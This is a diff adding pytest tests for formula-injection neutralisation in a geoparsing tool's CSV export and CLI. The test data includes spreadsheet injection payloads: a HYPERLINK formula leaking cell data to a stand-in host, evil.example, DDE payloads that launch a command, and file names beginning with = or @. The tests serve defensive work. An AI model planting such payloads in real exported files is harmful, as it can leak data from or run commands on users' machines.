@@ -215,6 +215,59 @@ def test_csv_of_nothing_is_a_header() -> None:
     assert export.to_csv([]) == ",".join(export.CSV_COLUMNS) + "\n"
 
 
+FORMULAS = [
+    ('=HYPERLINK("http://evil.example/?"&A1, "Calais")', '\'=HYPERLINK("http://evil.example/?"&A1, "Calais")'),
+    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("Calais = 1", "Calais = 1"),
+    (" =1", " =1"),
+    ("", ""),
+    (-1.5, -1.5),
+    (-67, -67),
+]
+FORMULA_IDS = ["hyperlink", "dde", "plus", "minus", "at", "tab", "carriage-return", "inner-equals", "space-first",
+               "empty", "negative-float", "negative-int"]  # fmt: skip
+
+
+@pytest.mark.parametrize(("cell", "written"), FORMULAS, ids=FORMULA_IDS)
+def test_formula_cells_are_neutralised_numbers_stay_numbers(cell: object, written: object) -> None:
+    assert export.neutralise_formula(cell) == written
+
+
+def test_csv_cells_that_begin_a_formula_start_with_a_quote() -> None:
+    """Bug (issue 8): titles and sentences beginning with =, +, -, @ were exported verbatim."""
+    text = '=HYPERLINK("http://evil") in Calais. @SUM(1) near Calais.'
+    article = Article("=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", text)
+    item = GeoparsedArticle(article, (geocoded(text, "Calais", CALAIS), geocoded(text, "Calais", CALAIS_ME, nth=1)))
+    rows = csv_rows(export.to_csv([item]))
+    assert [(r["article_id"], r["article_title"]) for r in rows] == [
+        ("'=cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")
+    ] * 2
+    assert rows[0]["sentence"] == '\'=HYPERLINK("http://evil") in Calais.'
+    assert rows[1]["sentence"] == "'@SUM(1) near Calais."
+    assert (rows[1]["lat"], rows[1]["lon"]) == (str(CALAIS_ME.lat), str(CALAIS_ME.lon))  # "-67.28", no quote
+    assert rows[0]["text"] == "Calais" and rows[0]["place_name"] == "Calais"
+
+
+def test_cli_csv_cells_that_begin_a_formula_start_with_a_quote(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """`extract --format csv` writes the file names it was given: one named "=..." must not become a formula."""
+    from geo.cli import main
+
+    for name in ("=SUM(1+1).txt", "@cmd.txt"):
+        (tmp_path / name).write_text("Refugees in Calais\n\nRefugees waited in Calais, France.\n", encoding="utf-8")
+    monkeypatch.chdir(tmp_path)
+    assert main(["extract", "--format", "csv", "=SUM(1+1).txt", "@cmd.txt"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert rows and {r["source"] for r in rows} == {"'=SUM(1+1).txt", "'@cmd.txt"}
+    assert all(float(r["lat"]) for r in rows if r["lat"])
+
+
 def test_place_cells_shared_with_the_cli() -> None:
     from geo.cli import CSV_COLUMNS as CLI_COLUMNS
 
